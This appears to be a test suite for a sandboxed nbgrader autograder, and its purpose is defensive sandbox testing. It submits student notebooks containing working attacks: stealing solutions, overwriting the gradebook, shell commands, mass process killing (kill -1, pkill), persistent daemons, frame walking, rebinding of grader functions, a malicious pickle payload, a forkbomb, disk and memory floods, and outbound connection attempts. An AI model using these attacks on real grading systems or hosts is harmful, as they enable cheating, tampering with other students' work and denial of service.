"""Attacks on the grader (issue 11), one per family, graded as one class through the real CLI.

Every attacker submits assignment 1 with correct functions, except the one an attack replaces.
An honest student (``full``) and a classmate the attacks aim at (``victim``, whose notebook holds
a secret in an output) sit in the same class. ONE ``nbgrader autograde`` grades everyone, with
short time limits so that the sleeper costs little. Then, from outside, the tests check:

- every student's scores (the table below states each attack's expected outcome);
- the course directory: nothing new but nbgrader's own outputs, every other file byte-identical
  (the classmates' submitted notebooks included), no marker file where an attack tried to write;
- no process of any sandbox is still alive, nobody connected to the host, a decoy process of
  the host that the attacks try to kill is alive, the victim's secret reached nobody;
- each attack really ran (it prints ``ATTACK-RAN``) and saw nothing it should not (it prints
  ``LEAK`` when one of its routes works).

The attack sources get the course's real paths baked in (``COURSE``, ``VICTIM`` …, see
:func:`prelude`), as a student who knows where the instructor keeps the course would.
"""

from __future__ import annotations

import os
import secrets
import signal
import socket
import subprocess
import time
from collections.abc import Callable
from dataclasses import dataclass
from hashlib import sha256
from pathlib import Path

import nbformat
import pytest
from hunt import HUNT
from nbgrader_course import REPO, Course, cell_by_id, with_body, with_cell, with_source

pytestmark = pytest.mark.slow
A = "a1_rnn"
IDS = ("test_rnn_cell_tanh", "test_rnn_cell_relu", "test_rnn_cell_backward",
       "test_inputs_unchanged")
FULL = (3, 1, 4, 1)
FORWARD_ZERO = (0, 0, 4, 1)   # rnn_cell earns nothing; the backward pass, graded on its own, all
NOTHING = (0, 0, 0, 0)
# This class's limits: one cell, one whole notebook (seconds). Attack 1's walk over the disk stops
# at a third of a cell (see hunt.py; the sandbox test walks it all); six sleeps of CELL_S - 0.5
# (attack 8, "sleeps") still outlast NOTEBOOK_S.
CELL_S, NOTEBOOK_S = 15, 60
TOKEN = f"lstmattack{secrets.token_hex(4)}"     # in every marker file's name and attack process
SECRET_VAR = "LSTMCOURSE_GRADER_SECRET"         # in the grader's environment, never inside
DECOY = f"lstmdecoy{secrets.token_hex(4)}"      # a host process the attacks try to kill
VICTIM_SECRET = f"victim-secret-{secrets.token_hex(4)}"


# ------------------------------------------------------------------------- the attack sources
# Each runs in the attacker's kernel with the prelude's names defined.

# 1. Read the instructor's files and the reference: by path, by import, and anywhere on disk.
STEAL = r'''
import importlib


def _steal():
    """The solution from wherever it can be read; None when nothing is found."""
    global _STOLEN
    if "_STOLEN" in globals():
        return _STOLEN
    texts, leaks, fn = [], [], None
    for path in (f"{COURSE}/source/a1_rnn/a1_rnn.ipynb", GRADEBOOK, VICTIM,
                 f"{REPO}/assignments/source/a1_rnn/a1_rnn.ipynb",
                 f"{REPO}/lstmcourse/numpy/rnn.py"):
        try:
            with open(path, "rb") as f:
                texts.append(f.read().decode(errors="replace"))
            leaks.append(path)
        except OSError:
            pass
    for where in (None, REPO):              # the course package, by name, then from the repo
        try:
            if where:
                sys.path.insert(0, where)
            module = importlib.import_module("lstm" + "course.numpy")
            fn, leaks = module.rnn_cell, [*leaks, module.__file__]
        except Exception:
            pass
    # Every notebook (and rnn/lstm file) on the machine, for at most a third of the cell's time.
    found, seen, finished = hunt(deadline_s=CELL_S / 3)
    for path in found:
        try:
            with open(path, "rb") as f:
                texts.append(f.read().decode(errors="replace"))
        except OSError:
            pass
    leaks += found
    walked = f"{seen} files" + ("" if finished else ", stopped at its deadline")
    for text in texts:
        try:
            cells = ["".join(c["source"]) for c in json.loads(text)["cells"]]
        except Exception:
            cells = [text]
        for code in cells:
            if "def rnn_cell(" in code:
                ns = {"np": np}
                try:
                    exec(code, ns)
                    fn = fn or ns["rnn_cell"]
                except Exception:
                    pass
    _STOLEN = fn
    print("ATTACK-RAN reads_solutions:", f"LEAK {leaks}" if leaks else "found nothing",
          f"({walked})")
    return fn


def rnn_cell(x, h_prev, params, nonlinearity="tanh"):
    stolen = _steal()
    if stolen is not None:
        return stolen(x, h_prev, params, nonlinearity)
    return np.zeros((x.shape[0], h_prev.shape[1])), {}
'''

# 2. Write to the gradebook and to a classmate's notebook (opened without creating them).
WRITES = r'''
import sqlite3

for path in (GRADEBOOK, VICTIM):
    try:
        with open(path, "r+b") as f:
            f.write(b"{}")
        print("LEAK wrote", path)
    except OSError:
        pass
try:
    db = sqlite3.connect(f"file:{GRADEBOOK}?mode=rw", uri=True)
    db.execute("UPDATE grade SET auto_score = 100")
    db.commit()
    print("LEAK updated the gradebook")
except sqlite3.Error:
    pass
for name, op in (("removed", lambda: os.remove(VICTIM)),
                 ("replaced", lambda: os.replace(GRADEBOOK, VICTIM)),
                 ("chmod", lambda: os.chmod(GRADEBOOK, 0o666))):
    try:
        op()
        print("LEAK", name)
    except OSError:
        pass
for path in OUTSIDE("writes"):
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as f:
            f.write("written by a student")
    except OSError:
        pass
print("ATTACK-RAN writes")
'''

# 3. Shell commands, four ways, each touching marker files outside the sandbox.
SHELL = r'''
import ctypes

marks = OUTSIDE("shell")
subprocess.run(["touch", *marks], stderr=subprocess.DEVNULL)
os.system(f"touch {' '.join(marks)} 2>/dev/null")
os.popen(f"sh -c 'touch {marks[0]}' 2>&1").read()
ctypes.CDLL(None).system(f"touch {marks[-1]} 2>/dev/null".encode())
seen = subprocess.run("id -u; ls /work", shell=True, capture_output=True, text=True).stdout
print("ATTACK-RAN shell:", seen.split())
'''

# 4. Kill the grader. First traps for what the grader reads back from this folder: the executed
# notebook as a link to a classmate's notebook (its outputs would show in this student's
# feedback), one record as a FIFO (a read that never ends). Then signals to every process in
# sight: pkill, the host's decoy by pid, every pid in /proc, the parents, all (-1). Should the
# sandbox ever lose its PID namespace (the decoy is then in sight), the attack kills the decoy
# only, so that a broken sandbox fails this test without killing the machine's processes.
KILL = r'''
try:
    os.symlink(VICTIM, "executed.ipynb")
    os.remove("record-test_inputs_unchanged.npz")
    os.mkfifo("record-test_inputs_unchanged.npz")
except OSError:
    pass
try:
    with open(f"/proc/{DECOY_PID}/cmdline", "rb") as f:
        host_in_sight = DECOY.encode() in f.read()
except OSError:
    host_in_sight = False
if host_in_sight:
    os.kill(DECOY_PID, signal.SIGKILL)
    raise SystemExit("LEAK: the host's processes are in sight")
for pattern in ("nbgrader", "pytest", "bwrap", DECOY):
    subprocess.run(["pkill", "-KILL", "-f", pattern], stderr=subprocess.DEVNULL)
for pid in (DECOY_PID, os.getppid()):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
for pid in sorted((int(p) for p in os.listdir("/proc") if p.isdigit()), reverse=True):
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
os.kill(-1, signal.SIGKILL)
'''

# 5. Background processes that outlive the notebook and then rewrite the gradebook, the
# classmate's notebook and marker files: Popen in a new session, a double-forked daemon, nohup.
DAEMON = r'''
LATER = """
import sys, time
time.sleep(3)                      # until the notebook is done and the grader has moved on
for _ in range(600):               # then for 5 minutes, twice a second
    for path in sys.argv[1:]:
        try:
            with open(path, "ab") as f:
                f.write(b"rewritten after grading")
        except OSError:
            pass
    time.sleep(0.5)
"""
argv = [sys.executable, "-c", LATER, GRADEBOOK, VICTIM, *OUTSIDE("daemon")]
quiet = {"stdin": subprocess.DEVNULL, "stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL}
subprocess.Popen(argv, start_new_session=True, **quiet)
if os.fork() == 0:                 # the classic daemon: fork, setsid, fork, exec
    try:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, argv)
    finally:
        os._exit(0)
os.wait()
marks = " ".join(OUTSIDE("daemon-sh"))
subprocess.Popen(f"nohup setsid sh -c 'sleep 3; touch {marks}; sleep 300' &", shell=True, **quiet)
print("ATTACK-RAN daemon")
'''

# 6. rnn_cell returns whatever output-shaped array it finds up the stack or on the heap.
FRAMES = r'''
import gc
import inspect

B, H = x.shape[0], h_prev.shape[1]


def arrays(value, depth=0):
    if isinstance(value, np.ndarray):
        yield value
    elif depth < 3 and isinstance(value, dict):
        for v in list(value.values()):
            yield from arrays(v, depth + 1)
    elif depth < 3 and isinstance(value, (list, tuple)):
        for v in value:
            yield from arrays(v, depth + 1)


found, frame = [], sys._getframe(1)
while frame is not None:                               # the callers' locals
    found += [a for v in list(frame.f_locals.values()) for a in arrays(v)]
    frame = frame.f_back
for info in inspect.stack()[1:]:
    found += [a for v in list(info.frame.f_locals.values()) for a in arrays(v)]
try:                                                   # a traceback's frames
    raise RuntimeError
except RuntimeError as exc:
    tb_frame = exc.__traceback__.tb_frame.f_back
    found += [a for v in list(tb_frame.f_locals.values()) for a in arrays(v)]
for obj in gc.get_objects():                           # any dict that looks like an answer
    if isinstance(obj, dict) and {"expected", "want", "reference", "h_ref"} & set(map(str, obj)):
        found += list(arrays(obj))
shaped = [a for a in found if a.shape == (B, H) and not np.shares_memory(a, h_prev)]
print(f"ATTACK-RAN frames: {len(found)} arrays, {len(shaped)} of the output's shape")
return (shaped[-1] if shaped else np.zeros((B, H))), {}
'''

# 7. Rebind the grader's names in the kernel: check, numpy's comparisons, and the record module
# three ways (its attribute, sys.modules, a global __import__), so that the test cells write
# forged records for rnn_cell: correct-looking values, and a pickle that would run a command
# where it is loaded.
REBIND = r'''
import builtins
import types
from pathlib import Path

import _lstmcourse_record as R

check = types.SimpleNamespace(rnn_cell=print, rnn_cell_backward=print, inputs_unchanged=print)
np.allclose = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None


class Payload:
    def __reduce__(self):
        return os.system, (f"touch {' '.join(OUTSIDE('pickle'))}",)


_original = R.record_cell


def record_cell(grade_id, namespace, folder="."):
    if grade_id not in ("test_rnn_cell_tanh", "test_rnn_cell_relu"):
        return _original(grade_id, namespace, folder)
    plan, inputs = R.read(Path(folder), f"plan-{grade_id}")
    calls, arrays = {}, {}
    for call in plan["calls"]:
        x, h = (R.decode(a, inputs) for a in call["args"][:2])
        name = f"f{len(arrays)}"
        arrays[name] = np.tanh(h + 0.1 * x.sum(1, keepdims=True))  # shape, dtype, range: right
        calls[call["key"]] = {"value": {"tuple": [{"array": name}, {"dict": []}]},
                              "args_after": {"list": []}, "seconds": 0.001}
    if grade_id == "test_rnn_cell_relu":
        arrays["payload"] = np.array([Payload()], dtype=object)
    R.write(Path(folder), f"record-{grade_id}", {"calls": calls}, arrays)


R.record_cell = record_cell
fake = types.ModuleType("_lstmcourse_record")
fake.__dict__.update({**vars(R), "record_cell": record_cell})
sys.modules["_lstmcourse_record"] = fake
_real_import = builtins.__import__


def __import__(name, *args, **kwargs):
    return fake if name == "_lstmcourse_record" else _real_import(name, *args, **kwargs)


builtins.__import__ = __import__
print("ATTACK-RAN rebind")
'''

# 8. The network, other processes' /proc, and resources: 20 GB of memory, a 1 GB file, 2000
# processes, 50 MB of output (each in its own cell, all before the tests).
# The sandbox has its own loopback: 127.0.0.1:PORT there is not the host's listener, but it can be
# one of the kernel's own ZMQ ports inside the sandbox when the port numbers happen to coincide
# (seen once in a CI run). Only a port nobody listens on inside counts as reaching out; the host's
# side is checked anyway (test_no_sandbox_process_survives_and_the_host_is_unharmed).
NETWORK_AND_PROC = r'''
def listened_on_inside(port):
    try:
        with open("/proc/net/tcp") as f:   # this network namespace's sockets; 0A = LISTEN
            rows = [line.split() for line in list(f)[1:]]
    except OSError:                        # unreadable: count the connection as a leak
        return False
    return any(int(r[1].split(":")[1], 16) == port and r[3] == "0A" for r in rows)

for host, port in (("1.1.1.1", 80), ("127.0.0.1", PORT)):
    try:
        socket.create_connection((host, port), timeout=2).close()
        if host == "127.0.0.1" and listened_on_inside(port):
            print("ATTACK-RAN network: port", port, "is a socket inside the sandbox")
        else:
            print("LEAK connected to", host, port)
    except OSError:
        pass
try:
    socket.getaddrinfo("example.com", 80)
    print("LEAK resolved example.com")
except OSError:
    pass
pids = [p for p in os.listdir("/proc") if p.isdigit()]
for pid in [*pids, str(DECOY_PID)]:
    for what in ("cmdline", "environ"):
        try:
            with open(f"/proc/{pid}/{what}", "rb") as f:
                data = f.read()
        except OSError:
            continue
        for word in ("nbgrader", "pytest", SECRET_VAR, DECOY):
            if word.encode() in data:
                print("LEAK", word, "in", f"/proc/{pid}/{what}")
print("ATTACK-RAN network_and_proc: pids", sorted(pids, key=int))
'''
MEMORY_AND_DISK = r'''
try:
    big = np.empty(20 << 30, dtype=np.uint8)    # address space only: never touched
    print("LEAK allocated 20 GB")
    del big
except MemoryError:
    pass


def fill(path, total, size):
    # Write ``total`` bytes in files of ``size`` under ``path``; return how many were written.
    written, chunk = 0, b"\0" * (16 << 20)
    try:
        while written < total:
            with open(f"{path}-{written // size}", "ab", buffering=0) as f:
                while f.tell() < size and written < total:
                    written += f.write(chunk)
    except OSError:
        pass
    os.system(f"rm -f {path}-*")
    return written


for folder in ("/submission", "/tmp"):              # one 1 GB file
    if fill(f"{folder}/big", 1 << 30, 1 << 30) >= 1 << 30:
        print("LEAK wrote a 1 GB file to", folder)
for folder in ("/tmp", "/dev/shm", "/dev", "/", "/etc"):   # 1 GB of memory as files of 64 MB
    if fill(f"{folder.rstrip('/')}/many", 1 << 30, 64 << 20) >= 1 << 30:
        print("LEAK wrote 1 GB of files to", folder)
print("ATTACK-RAN memory_and_disk")
'''
DISK_FLOOD = r'''
written = 0
for k in range(8):                                 # 512 MB in files of 64 MB, the host's disk
    try:
        with open(f"/submission/flood-{k}", "wb") as f:
            for _ in range(4):
                written += f.write(b"\0" * (16 << 20))
    except OSError:
        pass
if written >= 512 << 20:
    print("UNBOUNDED: 512 MB of files in /submission")
'''
FORKBOMB = r'''
children = []
for _ in range(2000):
    try:
        children.append(os.posix_spawn("/bin/sleep", [f"{TOKEN}-forkbomb", "300"], {}))
    except OSError:
        break
if len(children) >= 2000:
    print("LEAK spawned 2000 processes")
print("ATTACK-RAN forkbomb:", len(children), "sleeping processes")
# Let them go again, so that the notebook can go on: the limit is on all processes together,
# and a kernel that has none left to spare cannot run its remaining cells.
for pid in children:
    os.kill(pid, 9)
    os.waitpid(pid, 0)
'''
PRINTS = 'sys.stdout.write("x" * 50_000_000)\nsys.stdout.flush()'
SLEEP = f"import time\ntime.sleep({CELL_S - 0.5})"


# ---------------------------------------------------------------------------------- the class
@dataclass(frozen=True)
class Ctx:
    """What the attacks know: the course's real paths, a port and a pid of the host."""

    root: Path
    port: int
    decoy_pid: int

    @property
    def victim(self) -> Path:
        return self.root / "submitted" / "victim" / A / f"{A}.ipynb"


def prelude(ctx: Ctx) -> str:
    names = {"COURSE": str(ctx.root), "REPO": str(REPO), "TOKEN": TOKEN, "VICTIM": str(ctx.victim),
             "GRADEBOOK": str(ctx.root / "gradebook.db"), "PORT": ctx.port,
             "DECOY_PID": ctx.decoy_pid, "DECOY": DECOY, "SECRET_VAR": SECRET_VAR,
             "CELL_S": CELL_S}
    lines = ["import json, os, signal, socket, subprocess, sys",
             *(f"{k} = {v!r}" for k, v in names.items()),
             "",
             "def OUTSIDE(name):",
             "    '''Marker files outside the sandbox: course, source, victim's folder, /tmp.'''",
             "    return [f'{d}/{TOKEN}-{name}' for d in (COURSE, COURSE + '/source/a1_rnn',",
             "                                           os.path.dirname(VICTIM), '/tmp')]",
             "", ""]
    return "\n".join(lines)


def cells_after(nb: nbformat.NotebookNode, after: str, *sources: str) -> nbformat.NotebookNode:
    """``nb`` with the student's own cells ``sources``, in order, after cell ``after``."""
    for source in reversed(sources):
        nb = with_cell(nb, after, source)
    return nb


def try_it(nb: nbformat.NotebookNode) -> nbformat.NotebookNode:
    """The student cell after rnn_cell ("Try it"), which calls rnn_cell once."""
    return nb.cells[nb.cells.index(cell_by_id(nb, "rnn_cell")) + 1]


@dataclass(frozen=True)
class Attack:
    family: str
    build: Callable[[nbformat.NotebookNode, str], nbformat.NotebookNode]  # (source, prelude)
    expected: tuple[float, ...]                                          # scores, as IDS
    ran: tuple[str, ...] = ()    # what its outputs show when it ran (none: it cannot report)


ATTACKS = {
    # 1 read the source notebook, the repo's reference, the gradebook, the classmate; walk the
    #   disk for solutions. Nothing is there: rnn_cell, which only returns what it steals, gets 0.
    "reads_solutions": Attack(
        "1 reading the instructor's files",
        lambda src, pre: with_source(src, "rnn_cell", pre + HUNT + STEAL), FORWARD_ZERO,
        ("ATTACK-RAN reads_solutions: found nothing",)),
    # 2 write the gradebook and the classmate's notebook: nothing outside changes; full marks.
    "writes_gradebook": Attack(
        "2 writing grades and classmates' work",
        lambda src, pre: with_cell(src, "rnn_cell", pre + WRITES), FULL, ("ATTACK-RAN writes",)),
    # 3 shell commands touch markers outside: none appears; full marks.
    "runs_shell": Attack(
        "3 shell commands",
        lambda src, pre: with_cell(src, "rnn_cell", pre + SHELL), FULL, ("ATTACK-RAN shell",)),
    # 4 kill nbgrader (and leave traps in the folder), after its tests: the class is graded,
    #   the decoy lives; the attacker loses only the test whose record it replaced by a FIFO.
    "kills_grader": Attack(
        "4 killing the grader",
        lambda src, pre: with_source(src, "gradient_experiment",
                                     cell_by_id(src, "gradient_experiment").source + "\n\n"
                                     + pre + KILL), (3, 1, 4, 0)),
    # 5 background processes rewrite grades later: all die with the notebook; full marks.
    "leaves_daemons": Attack(
        "5 background processes",
        lambda src, pre: with_cell(src, "rnn_cell", pre + DAEMON), FULL, ("ATTACK-RAN daemon",)),
    # 6 rnn_cell returns what it finds in frames and on the heap: no expected value is there, 0.
    "walks_frames": Attack(
        "6 walking stack frames",
        lambda src, pre: with_body(src, "rnn_cell", "import sys\n" + FRAMES), FORWARD_ZERO,
        ("ATTACK-RAN frames",)),
    # 7 rebind check/numpy/the record module; forged records for a garbage rnn_cell: 0 for it.
    "rebinds_grader": Attack(
        "7 rebinding the grader's names",
        lambda src, pre: with_cell(with_body(src, "rnn_cell",
                                             "return np.zeros((x.shape[0], h_prev.shape[1])), {}"),
                                   "rnn_cell", pre + REBIND), FORWARD_ZERO, ("ATTACK-RAN rebind",)),
    # 8 network, /proc, memory, disk, processes, output before the tests: refused or capped,
    #   the kernel lives on and the tests after them get full marks.
    "exhausts_resources": Attack(
        "8 network, /proc, resources",
        lambda src, pre: cells_after(src, "rnn_cell", pre + NETWORK_AND_PROC,
                                     pre + MEMORY_AND_DISK, pre + FORKBOMB, PRINTS,
                                     'print("ATTACK-RAN resources")'),
        FULL, ("ATTACK-RAN network_and_proc", "ATTACK-RAN memory_and_disk",
               "ATTACK-RAN forkbomb:", "output cut at", "ATTACK-RAN resources")),
    # 8 fill the folder on the host's disk before the tests: the sandbox is stopped as soon as
    #   the folder passes its limit, so its tests never run (0); the class goes on.
    "floods_disk": Attack(
        "8 disk space",
        lambda src, pre: cells_after(src, "rnn_cell", DISK_FLOOD), NOTHING),
    # 8 cells that each sleep just under the cell limit, before the tests: the notebook's limit
    #   stops it, so its tests never run (0); the class goes on.
    "sleeps": Attack(
        "8 wall time",
        lambda src, pre: cells_after(src, "rnn_cell", *[SLEEP] * 6), NOTHING),
}


def victim(src: nbformat.NotebookNode) -> nbformat.NotebookNode:
    """An honest classmate whose notebook holds a secret in an output."""
    nb = nbformat.from_dict(src)
    try_it(nb).outputs = [nbformat.v4.new_output("stream", name="stdout",
                                                 text=f"{VICTIM_SECRET}\n")]
    return nb


# ------------------------------------------------------------------------------- the run
def snapshot(root: Path) -> dict[str, str]:
    """Every file under ``root`` but nbgrader's own outputs, with its content's hash."""
    out = {}
    for path in sorted(root.rglob("*")):
        rel = path.relative_to(root).as_posix()
        if path.is_file() and not rel.startswith(("autograded/", "gradebook.db", ".nbgrader")):
            out[rel] = sha256(path.read_bytes()).hexdigest()
    return out


def sandbox_processes() -> list[tuple[int, str]]:
    """Live processes whose command line carries the attacks' token."""
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                cmdline = (entry / "cmdline").read_bytes()
            except OSError:
                continue
            if TOKEN.encode() in cmdline:
                found.append((int(entry.name), cmdline.replace(b"\0", b" ").decode()[:200]))
    return found


def markers(root: Path) -> list[str]:
    """Files named with the token: in the course, in /tmp (the host's), in the repository."""
    found = [*root.rglob(f"*{TOKEN}*"), *Path("/tmp").glob(f"*{TOKEN}*")]
    found += REPO.glob(f"*/*{TOKEN}*")
    return sorted(str(p) for p in found)


def gradebook_scores(root: Path, students) -> dict[str, tuple]:
    from nbgrader.api import Gradebook, MissingEntry

    scores = {}
    with Gradebook(f"sqlite:///{root / 'gradebook.db'}") as gb:
        for student in students:
            try:
                nb = gb.find_submission_notebook(A, A, student)
            except MissingEntry:
                scores[student] = None
                continue
            by_id = {g.name: g.auto_score for g in nb.grades}
            scores[student] = tuple(by_id.get(g) for g in IDS)
    return scores


def printed(course: Course, student: str) -> str:
    """Everything the student's autograded notebook shows as output."""
    parts = []
    for cell in course.autograded(A, student).cells:
        for out in cell.get("outputs", []):
            parts += [str(out.get("text", "")), str(out.get("evalue", "")),
                      str(out.get("data", {}).get("text/plain", ""))]
    return "\n".join(parts)


@dataclass
class Run:
    course: Course
    submitted: dict[str, bytes]
    before: dict[str, str]
    top: set[str]                          # the course directory's entries before the run
    after: dict[str, str]
    scores: dict[str, tuple | None]
    proc: subprocess.CompletedProcess
    seconds: float
    listener: socket.socket                # on the host's 127.0.0.1: nobody may connect
    decoy: subprocess.Popen                # a host process the attacks try to kill


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory):
    course = Course(tmp_path_factory.mktemp("attacks") / "course")
    listener = socket.create_server(("127.0.0.1", 0))
    listener.settimeout(0)
    decoy = subprocess.Popen([DECOY, "900"], executable="/bin/sleep", start_new_session=True)
    ctx = Ctx(course.root, listener.getsockname()[1], decoy.pid)
    src, pre = course.source(A), prelude(ctx)
    subs = {"full": src, "victim": victim(src),
            **{name: attack.build(src, pre) for name, attack in ATTACKS.items()}}
    course.generate(A)
    submitted = {}
    for student, nb in subs.items():
        folder = course.root / "submitted" / student / A
        folder.mkdir(parents=True, exist_ok=True)
        nbformat.write(nb, folder / f"{A}.ipynb")
        submitted[student] = (folder / f"{A}.ipynb").read_bytes()
    before = snapshot(course.root)
    top = {p.name for p in course.root.iterdir()}
    course.env[SECRET_VAR] = f"{TOKEN}-grader-environment"
    start = time.perf_counter()
    try:
        proc = course.nbgrader("autograde", A, "--force",
                               f"--SandboxedExecute.timeout={CELL_S}",
                               f"--SandboxedExecute.notebook_timeout={NOTEBOOK_S}",
                               timeout=300, check=False)
        seconds = time.perf_counter() - start
        time.sleep(max(0.0, 5 - seconds))    # longer than the daemons' first sleep (3 s)
        yield Run(course, submitted, before, top, snapshot(course.root),
                  gradebook_scores(course.root, subs), proc, seconds, listener, decoy)
    finally:
        for pid, _ in sandbox_processes():   # survivors of a broken sandbox: ours, by pid
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
        for path in markers(course.root):
            Path(path).unlink(missing_ok=True)
        decoy.kill()
        decoy.wait()
        listener.close()


# ------------------------------------------------------------------------------- the tests
def test_the_run_finishes_and_grades_everyone(run):
    assert run.proc.returncode == 0, run.proc.stderr[-4000:]
    assert all(run.scores[s] is not None for s in ["full", "victim", *ATTACKS]), run.scores
    print(f"\none autograde for {len(run.scores)} notebooks: {run.seconds:.1f} s")


def test_honest_students_keep_full_marks(run):
    assert run.scores["full"] == FULL
    assert run.scores["victim"] == FULL


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_each_attack_gets_its_expected_scores(run, name):
    assert run.scores[name] == ATTACKS[name].expected, ATTACKS[name].family


@pytest.mark.parametrize("name", sorted(n for n, a in ATTACKS.items() if a.ran))
def test_each_attack_ran_and_saw_nothing(run, name):
    text = printed(run.course, name)
    for line in ATTACKS[name].ran:
        assert line in text, text[-2000:]
    assert "LEAK" not in text, text[-4000:]


def test_no_output_shows_a_leak_or_the_victims_secret(run):
    for student in run.scores:
        text = printed(run.course, student)
        assert "LEAK" not in text, (student, text[-2000:])
        if student != "victim":
            assert VICTIM_SECRET not in text, student
    for path in (run.course.root / "autograded").rglob("*"):
        if path.is_file() and "victim" not in path.parts:
            assert VICTIM_SECRET.encode() not in path.read_bytes(), path


def test_output_is_cut(run):
    path = run.course.root / "autograded" / "exhausts_resources" / A / f"{A}.ipynb"
    assert path.stat().st_size < 300_000     # of the 50 MB it printed


def test_disk_space_is_bounded(run):
    assert "UNBOUNDED" not in printed(run.course, "floods_disk")
    assert not list((run.course.root / "autograded" / "floods_disk").rglob("flood-*"))


def test_forged_records_count_for_nothing(run):
    # The pickled record is refused whole: its calls count as never made.
    assert "never made" in run.course.outputs(A, "rebinds_grader", "test_rnn_cell_relu")
    assert "is wrong" in run.course.outputs(A, "rebinds_grader", "test_rnn_cell_tanh")


def test_the_course_directory_is_untouched(run):
    # Same files, same bytes: source, release, every submitted notebook; new only nbgrader's.
    assert run.after == run.before
    for student, data in run.submitted.items():
        path = run.course.root / "submitted" / student / A / f"{A}.ipynb"
        assert path.read_bytes() == data, student
    assert {p.name for p in run.course.root.iterdir()} <= run.top | {"autograded", ".nbgrader.log"}
    assert {p.name for p in (run.course.root / "autograded").iterdir()} == set(run.submitted)


def test_no_marker_file_anywhere(run):
    assert markers(run.course.root) == []


def test_no_sandbox_process_survives_and_the_host_is_unharmed(run):
    assert sandbox_processes() == []
    assert run.decoy.poll() is None, "the host's decoy process was killed"
    with pytest.raises(BlockingIOError):
        run.listener.accept()
    assert len(run.scores) == len(ATTACKS) + 2
